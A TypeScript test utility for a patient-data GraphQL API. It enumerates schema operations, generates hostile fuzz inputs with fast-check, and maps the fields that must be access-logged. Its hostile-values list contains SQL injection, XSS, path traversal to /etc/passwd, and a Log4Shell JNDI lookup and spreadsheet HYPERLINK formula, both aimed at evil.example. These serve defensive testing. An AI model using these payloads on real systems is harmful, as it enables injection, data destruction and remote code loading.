/**
 * The operations the server serves, read from schema.graphql itself (not from a list kept by hand), so a suite that
 * iterates them covers an operation the day it is added, and fails until it has been given what it needs. Also a
 * fast-check generator of arbitrary, hostile and almost-valid values for any GraphQL input type of the schema.
 */
import fc from 'fast-check';
import { readFileSync } from 'node:fs';
import {
  buildSchema,
  getNamedType,
  isEnumType,
  isInputObjectType,
  isListType,
  isNonNullType,
  isObjectType,
  isScalarType,
  type GraphQLArgument,
  type GraphQLInputType,
  type GraphQLObjectType,
  type GraphQLSchema,
} from 'graphql';
import { SCHEMA_PATH } from '../../src/app.module';

export type OperationKind = 'query' | 'mutation' | 'subscription';

export interface Operation {
  kind: OperationKind;
  name: string;
  args: readonly GraphQLArgument[];
  /** The argument list of a document, e.g. `($patientId: ID!, $month: YearMonth)`. */
  variableDefinitions: string;
  /** A document calling the operation with every argument as a variable and a minimal selection. */
  document: string;
}

export const schema: GraphQLSchema = buildSchema(readFileSync(SCHEMA_PATH, 'utf8'));

export function operations(): Operation[] {
  const roots: [OperationKind, ReturnType<GraphQLSchema['getQueryType']>][] = [
    ['query', schema.getQueryType()],
    ['mutation', schema.getMutationType()],
    ['subscription', schema.getSubscriptionType()],
  ];
  return roots.flatMap(([kind, type]) =>
    Object.values(type?.getFields() ?? {}).map((field) => {
      const variableDefinitions = field.args.length ? `(${field.args.map((arg) => `$${arg.name}: ${String(arg.type)}`).join(', ')})` : '';
      const callArgs = field.args.length ? `(${field.args.map((arg) => `${arg.name}: $${arg.name}`).join(', ')})` : '';
      const selection = isObjectType(getNamedType(field.type)) ? ' { __typename }' : '';
      return {
        kind,
        name: field.name,
        args: field.args,
        variableDefinitions,
        document: `${kind}${variableDefinitions} { ${field.name}${callArgs}${selection} }`,
      };
    }),
  );
}

// ---- Hostile values ---------------------------------------------------------------------------------------------

/** Texts that break naive SQL, JSON, CSV, HTML or log handling, and text a validator must refuse. */
export const METACHARACTER_TEXTS = [
  "'); DROP TABLE events; --",
  "' OR '1'='1",
  'Robert"); DELETE FROM patients WHERE ("1"="1',
  '{"$ne": null}',
  '\\"},"admin":true,"x":{"',
  '=HYPERLINK("http://evil.example","x")',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example/a}',
  '../../etc/passwd',
  '%00%0d%0a',
  'Ünïcødé — 患者 👩‍⚕️ \u202Eevil',
];
export const CONTROL_CHARACTER_TEXTS = ['nul\u0000byte', 'bell\u0007', 'escape\u001b[31mred', 'delete\u007f'];

const hostileString = fc.oneof(
  fc.string({ maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.constantFrom(...METACHARACTER_TEXTS, ...CONTROL_CHARACTER_TEXTS, '', ' ', '\n'),
  fc.integer({ min: 4_001, max: 60_000 }).map((length) => 'x'.repeat(length)),
  fc.uuid(),
);

const hostileNumber = fc.oneof(
  fc.integer(),
  fc.integer({ min: -2, max: 300 }),
  fc.double(),
  fc.constantFrom(2 ** 31, -(2 ** 31) - 1, Number.MAX_SAFE_INTEGER, 1e308, -0, 0.5),
);

const instantLike = fc.oneof(
  fc.date({ min: new Date('1900-01-01'), max: new Date('2100-01-01'), noInvalidDate: true }).map((date) => date.toISOString()),
  fc.constantFrom('2026-03-10T10:00:00-04:00', '2026-02-30T10:00:00Z', '2026-03-10', '2026-03-10T25:00:00Z', '9999-12-31T23:59:59Z', '0000-01-01T00:00:00Z'),
);
const dateLike = fc.oneof(
  fc.date({ min: new Date('1900-01-01'), max: new Date('2100-01-01'), noInvalidDate: true }).map((date) => date.toISOString().slice(0, 10)),
  fc.constantFrom('2026-02-29', '2024-02-29', '2026-13-01', '26-03-01', '2026-3-1'),
);
const monthLike = fc.oneof(
  fc.constantFrom('2026-03', '2026-13', '1999-00', '2026-3', '9999-12'),
  fc.integer({ min: 1990, max: 2100 }).map((year) => `${year}-03`),
);

/** Any JSON value: the wrong type for whatever field it lands in. */
const wrongType = fc.oneof(
  fc.boolean(),
  hostileNumber,
  hostileString,
  fc.constant(null),
  fc.array(fc.string({ maxLength: 5 }), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 5 }), fc.string({ maxLength: 5 }), { maxKeys: 3 }),
);

export interface ValueOptions {
  /** Ids worth trying besides random ones (a real patient's id makes the command reach the decider). */
  knownIds?: string[];
}

/**
 * Values for a GraphQL input type: mostly of the right shape, with hostile contents, and sometimes the wrong type,
 * null, missing required fields or extra ones.
 */
export function valueOf(type: GraphQLInputType, options: ValueOptions = {}, depth = 0): fc.Arbitrary<unknown> {
  if (isNonNullType(type)) return fc.oneof({ weight: 12, arbitrary: valueOf(type.ofType, options, depth) }, { weight: 1, arbitrary: wrongType });
  const nullable = (arbitrary: fc.Arbitrary<unknown>) =>
    fc.oneof({ weight: 8, arbitrary }, { weight: 1, arbitrary: fc.constant(null) }, { weight: 1, arbitrary: wrongType });
  if (isListType(type)) return nullable(fc.array(valueOf(type.ofType, options, depth + 1), { maxLength: depth > 2 ? 1 : 4 }));
  if (isEnumType(type))
    return nullable(
      fc.oneof({ weight: 4, arbitrary: fc.constantFrom(...type.getValues().map((value) => value.name)) }, { weight: 1, arbitrary: hostileString }),
    );
  if (isScalarType(type)) {
    const ids = options.knownIds?.length ? [fc.constantFrom(...options.knownIds)] : [];
    switch (type.name) {
      case 'ID':
        return nullable(fc.oneof(fc.uuid(), ...ids, ...ids, hostileString));
      case 'String':
        return nullable(hostileString);
      case 'Int':
      case 'Float':
        return nullable(hostileNumber);
      case 'Boolean':
        return nullable(fc.oneof({ weight: 4, arbitrary: fc.boolean() }, { weight: 1, arbitrary: wrongType }));
      case 'DateTime':
        return nullable(fc.oneof(instantLike, hostileString));
      case 'Date':
        return nullable(fc.oneof(dateLike, hostileString));
      case 'YearMonth':
        return nullable(fc.oneof(monthLike, hostileString));
      default:
        return nullable(wrongType);
    }
  }
  if (isInputObjectType(type)) {
    const fields = Object.values(type.getFields());
    const model = Object.fromEntries(fields.map((field) => [field.name, valueOf(field.type, options, depth + 1)]));
    // Mostly every field present (so that inputs get past coercion to validation and the deciders), sometimes any subset.
    const record = fc.oneof({ weight: 3, arbitrary: fc.record(model) }, { weight: 1, arbitrary: fc.record(model, { requiredKeys: [] }) });
    const withExtra = fc
      .tuple(record, fc.option(fc.tuple(fc.string({ minLength: 1, maxLength: 12 }), wrongType), { freq: 5 }))
      .map(([value, extra]) => (extra ? { ...(value as object), [extra[0]]: extra[1] } : value));
    return nullable(withExtra);
  }
  return wrongType;
}

// ---- Patient data -----------------------------------------------------------------------------------------------

/**
 * Object types that carry patient data: the Patient itself, any type with a `patientId`, and any type that holds
 * one of those (a connection of entries, a month of patient rows), found by closure over the schema.
 */
export function patientDataTypes(served: GraphQLSchema): Set<string> {
  const objects = Object.values(served.getTypeMap()).filter((type) => isObjectType(type) && !type.name.startsWith('__')) as GraphQLObjectType[];
  const carrying = new Set(objects.filter((type) => type.name === 'Patient' || 'patientId' in type.getFields()).map((type) => type.name));
  for (let grew = true; grew;) {
    grew = false;
    for (const type of objects) {
      if (carrying.has(type.name) || !Object.values(type.getFields()).some((field) => carrying.has(getNamedType(field.type).name))) continue;
      carrying.add(type.name);
      grew = true;
    }
  }
  return carrying;
}

/**
 * The coordinates (`Type.field`) of the served schema that answer patient data: every operation returning it or
 * taking a `patientId`, and every field with a resolver of its own (one that can read more than its parent did) on or returning such a type.
 * Each must be in the access-log table (src/audit/access-log/patient-data-reads.ts).
 */
export function patientDataCoordinates(served: GraphQLSchema): string[] {
  const carrying = patientDataTypes(served);
  const roots = new Set([served.getQueryType(), served.getMutationType(), served.getSubscriptionType()].filter(Boolean).map((type) => type!.name));
  return Object.values(served.getTypeMap())
    .filter((type): type is GraphQLObjectType => isObjectType(type) && !type.name.startsWith('__'))
    .flatMap((type) =>
      Object.values(type.getFields())
        .filter((field) => {
          const answersPatientData = carrying.has(getNamedType(field.type).name);
          // An operation about one patient (a trail of its events, its verification) answers that patient's data.
          if (roots.has(type.name)) return answersPatientData || field.args.some((arg) => arg.name === 'patientId');
          const ownResolver = field.resolve !== undefined || field.subscribe !== undefined;
          return ownResolver && (answersPatientData || carrying.has(type.name));
        })
        .map((field) => `${type.name}.${field.name}`),
    );
}
